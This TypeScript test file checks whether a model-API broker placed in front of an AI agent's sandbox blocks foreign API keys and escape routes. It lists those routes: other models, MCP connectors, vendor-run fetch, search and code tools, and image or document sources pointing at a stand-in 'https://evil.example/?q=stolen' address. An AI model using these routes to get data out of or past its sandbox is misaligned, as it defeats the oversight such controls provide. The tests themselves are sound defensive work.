import { ModelFront } from '../../../activities/agents/front/model-front.js';
import { createBrokerFetch } from '../../../activities/sandbox/broker.js';
import type { Vector } from '../vector.js';
import type { SecretsWorld } from './world.js';

type SecretsVector = Vector<SecretsWorld>;

const MODEL = 'claude-sonnet-5-5';
const KEY = 'sk-of-the-vendor-0123456789';
const MESSAGE = { model: MODEL, max_tokens: 5, messages: [{ role: 'user', content: 'x' }] };
const FREE = { settle: async () => undefined, release: async () => undefined, lose: async () => undefined };

/** Requests that reached the vendor, of those that were sent to the front of a run. */
const reached = async (
  world: SecretsWorld,
  send: (url: string, key: string) => Promise<unknown>,
): Promise<readonly string[]> => {
  const fetch = createBrokerFetch({ apiKey: KEY, baseUrl: world.url });
  const front = new ModelFront({ fetch, books: { begin: async () => FREE }, model: MODEL });
  world.heard.length = 0;
  try {
    await send(`http://127.0.0.1:${await front.listen()}/v1/messages`, front.token);
  } finally {
    await front.close();
  }
  return [...world.heard];
};

const post = (url: string, headers: Readonly<Record<string, string>>, body: object = MESSAGE): Promise<unknown> =>
  fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: JSON.stringify(body),
  })
    .then((response) => response.text())
    .catch(() => undefined); // hung up on

const KEYS: readonly ((key: string) => Readonly<Record<string, string>>)[] = [
  () => ({}),
  () => ({ 'x-api-key': '' }),
  () => ({ 'x-api-key': `run-${'A'.repeat(43)}` }),
  (key) => ({ 'x-api-key': key.slice(0, -1) }),
  (key) => ({ 'x-api-key': `${key}A` }),
  (key) => ({ 'x-api-key': key.toLowerCase() === key ? key.toUpperCase() : key.toLowerCase() }),
  (key) => ({ authorization: `Basic ${key}` }),
  () => ({ authorization: 'Bearer ' }),
  (key) => ({ 'x-api-key': 'other', authorization: `Bearer ${key}` }),
  (key) => ({ cookie: `key=${key}` }),
];

const foreignKey: SecretsVector = {
  name: 'a request to the model with another key than the run’s',
  controls: ['secrets.key-of-the-run'],
  isSmoke: true,
  run: async (world, tally) => {
    for (const headers of KEYS) {
      const heard = await reached(world, (url, key) => post(url, headers(key)));
      tally.count(heard.length > 0 ? `${JSON.stringify(headers('<key>'))} reached the vendor` : undefined);
    }
  },
};

const address = { type: 'url', url: 'https://evil.example/?q=stolen' };
const within = (block: object): object => ({ ...MESSAGE, messages: [{ role: 'user', content: [block] }] });

interface Way {
  readonly name: string;
  readonly control: string;
  readonly bodies: readonly object[];
}

/** Out of the sandbox through the vendor. */
const WAYS: readonly Way[] = [
  {
    name: 'another model than the agent’s',
    control: 'secrets.one-model',
    bodies: [
      { ...MESSAGE, model: 'claude-opus-5-5' },
      { ...MESSAGE, model: `${MODEL}\u0000` },
    ],
  },
  {
    name: 'connectors, containers and tiers in a request to the model',
    control: 'secrets.known-requests',
    bodies: [
      { ...MESSAGE, mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'x' }] },
      { ...MESSAGE, container: { skills: [] } },
      { ...MESSAGE, service_tier: 'priority' },
    ],
  },
  {
    name: 'tools that the model’s vendor runs',
    control: 'secrets.own-tools',
    bodies: [
      { ...MESSAGE, tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
      { ...MESSAGE, tools: [{ type: 'web_search_20250305', name: 'web_search' }] },
      { ...MESSAGE, tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] },
      {
        ...MESSAGE,
        tools: [
          { name: 'ok', input_schema: {} },
          { type: 'mcp_toolset', mcp_server_name: 'x' },
        ],
      },
    ],
  },
  {
    name: 'addresses and stored files in a request to the model',
    control: 'secrets.no-addresses',
    bodies: [
      within({ type: 'image', source: address }),
      within({ type: 'document', source: { type: 'file', file_id: 'file_1' } }),
      within({ type: 'tool_result', tool_use_id: 't', content: [{ type: 'document', source: address }] }),
      { ...MESSAGE, system: [{ type: 'document', source: address }] },
    ],
  },
];

const waysOut = WAYS.map(
  ({ name, control, bodies }): SecretsVector => ({
    name,
    controls: [control],
    isSmoke: true,
    run: async (world, tally) => {
      const own = (body: object) => reached(world, (url, key) => post(url, { 'x-api-key': key }, body));
      // What is refused must be refused for what it holds.
      if ((await own(MESSAGE)).length !== 1) throw new Error('an honest request does not reach the vendor');
      for (const body of bodies)
        tally.count((await own(body)).length > 0 ? `${JSON.stringify(body)} reached the vendor` : undefined);
    },
  }),
);

export const FRONT: readonly SecretsVector[] = [foreignKey, ...waysOut];
